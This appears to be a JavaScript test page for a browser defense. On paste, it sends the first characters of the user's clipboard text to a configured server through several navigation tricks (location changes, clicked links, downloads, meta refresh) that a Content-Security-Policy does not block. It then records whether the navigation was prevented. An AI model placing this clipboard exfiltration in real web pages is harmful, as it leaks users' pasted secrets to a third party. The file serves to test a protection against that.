// What a page with bad intentions would do that no Content-Security-Policy stops: it goes to another
// address and takes along what was put in. It stands behind the text of the page's own script.

const click = (link) => {
  document.body.append(link);
  link.click();
};
const link = (more) => (to) => click(Object.assign(document.createElement("a"), { href: to, ...more }));

const LEAVE = {
  assign: (to) => location.assign(to),
  replace: (to) => location.replace(to),
  href: (to) => {
    location.href = to;
  },
  link: link({}),
  download: link({ download: "told" }),
  refresh: (to) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=${to}`;
    document.head.append(meta);
  },
};

document.addEventListener("paste", ({ clipboardData }) => {
  const { dataset } = document.documentElement;
  // It hears of it before the page's own listener or after it, and looks when both are done.
  globalThis.navigation?.addEventListener("navigate", (event) => {
    setTimeout(() => {
      dataset.prevented = event.defaultPrevented;
    });
  });
  const { way, server } = dataset;
  const text = clipboardData.getData("text/plain").slice(0, 16);
  LEAVE[way](`${server}/told/${way}?${text}`);
});
